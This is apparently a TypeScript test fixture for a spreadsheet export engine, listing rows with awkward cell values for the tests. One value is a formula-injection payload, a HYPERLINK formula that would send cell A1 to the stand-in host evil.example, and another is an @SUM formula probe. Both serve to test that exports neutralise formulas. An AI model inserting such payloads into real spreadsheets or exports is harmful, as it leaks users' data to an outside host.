// A tiny in-memory table for the engine tests: one row per hazard (formula, quotes and comma,
// line break, leading whitespace, non-Latin text, negative and huge amounts, nulls).
import type { Readable } from "node:stream";
import type { ExportColumn, ExportTable } from "../cells";

export type FixtureRow = {
  label: string | null;
  amount: string | null;
  at: string;
  n: number | string;
  ok: boolean;
};

export const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")';

export const FIXTURE_ROWS: FixtureRow[] = [
  { label: HYPERLINK, amount: "1500000000000000000002", at: "2025-03-01T12:00:05.000000Z", n: 1, ok: true },
  {
    label: 'Gulf, "Crescent" Exchange',
    amount: "-250000000000000000",
    at: "2025-03-01T23:59:59Z",
    n: 2,
    ok: false,
  },
  {
    label: "two\r\nlines",
    amount: null,
    at: "2025-03-02T00:00:00.250000Z",
    n: "9007199254740993",
    ok: false,
  },
  { label: "  @SUM(A1:A9)", amount: "0", at: "2025-03-02T01:00:00Z", n: 4, ok: true },
  { label: "کراچی Exchange", amount: "7", at: "2025-03-02T02:00:00Z", n: 5, ok: true },
];

export const FIXTURE_COLUMNS: readonly ExportColumn<FixtureRow>[] = [
  { header: "label", kind: "text", value: (r) => r.label },
  { header: "amount_wei", kind: "wei", value: (r) => r.amount },
  { header: "amount_usd1", kind: "usd1", value: (r) => r.amount },
  { header: "at_utc", kind: "datetime", value: (r) => r.at },
  { header: "n", kind: "int", value: (r) => r.n },
  { header: "ok", kind: "bool", value: (r) => r.ok },
];

async function* batches<T>(rows: T[], size: number): AsyncGenerator<T[]> {
  for (let i = 0; i < rows.length; i += size) yield rows.slice(i, i + size);
}

export function fixtureTable(rows: FixtureRow[] = FIXTURE_ROWS, batchSize = 2): ExportTable<FixtureRow> {
  return { title: "Fixture", columns: FIXTURE_COLUMNS, rows: batches(rows, batchSize) };
}

export async function readAll(stream: Readable): Promise<Buffer> {
  const chunks: Buffer[] = [];
  for await (const c of stream) chunks.push(typeof c === "string" ? Buffer.from(c) : (c as Buffer));
  return Buffer.concat(chunks);
}
